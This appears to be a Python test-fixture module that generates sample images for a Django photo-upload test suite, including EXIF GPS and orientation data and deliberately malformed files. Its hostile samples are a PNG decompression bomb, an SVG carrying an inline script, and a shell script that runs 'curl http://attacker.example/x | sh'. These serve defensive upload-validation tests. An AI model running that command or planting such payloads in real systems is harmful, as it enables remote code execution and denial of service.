"""Images made on the fly for photo tests: real photos, and files that only pretend to be."""

import io
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageDraw

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def _striped(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """Not a flat colour: thumbnails and orientation can be told apart by what is where."""
    image = Image.new(mode, size, "white" if mode != "RGBA" else (255, 255, 255, 255))
    draw = ImageDraw.Draw(image)
    width, height = size
    fill = "red" if mode != "RGBA" else (255, 0, 0, 255)
    draw.rectangle((0, 0, width // 4, height // 4), fill=fill)
    for x in range(0, width, 16):
        draw.line((x, 0, x, height), fill="blue" if mode != "RGBA" else (0, 0, 255, 255))
    return image


def jpeg_bytes(
    size: tuple[int, int] = (1200, 900),
    *,
    gps: bool = False,
    orientation: int | None = None,
    comment: bytes | None = None,
) -> bytes:
    image = _striped(size)
    exif = Image.Exif()
    exif[0x010F] = "TestCam"  # Make
    exif[0x0110] = "Model 1"  # Model
    if orientation is not None:
        exif[ORIENTATION] = orientation
    if gps:
        exif[GPS_IFD] = {
            1: "N",
            2: (31.0, 13.0, 48.0),  # Shanghai
            3: "E",
            4: (121.0, 28.0, 12.0),
        }
    output = io.BytesIO()
    extra = {"comment": comment} if comment else {}
    image.save(output, format="JPEG", quality=90, exif=exif.tobytes(), **extra)
    return output.getvalue()


def png_bytes(size: tuple[int, int] = (800, 600), *, alpha: bool = False) -> bytes:
    image = _striped(size, "RGBA" if alpha else "RGB")
    if alpha:
        image.putalpha(Image.new("L", size, 0))  # fully transparent: must come out white
    output = io.BytesIO()
    image.save(output, format="PNG")
    return output.getvalue()


def webp_bytes(size: tuple[int, int] = (800, 600)) -> bytes:
    output = io.BytesIO()
    _striped(size).save(output, format="WEBP", quality=80)
    return output.getvalue()


def gif_bytes(size: tuple[int, int] = (200, 200)) -> bytes:
    output = io.BytesIO()
    _striped(size).convert("P").save(output, format="GIF")
    return output.getvalue()


def truncated_jpeg_bytes() -> bytes:
    whole = jpeg_bytes((1600, 1200))
    return whole[: len(whole) // 2]


def png_bomb_bytes(width: int = 30_000, height: int = 30_000) -> bytes:
    """A tiny PNG whose header declares width x height pixels (here 900 megapixels).

    Only the header and a token of data are written: decoding it would need gigabytes, which is the
    point of the checks that must refuse it first.
    """

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


SHELL_SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'


def upload(data: bytes, name: str = "photo.jpg", content_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)
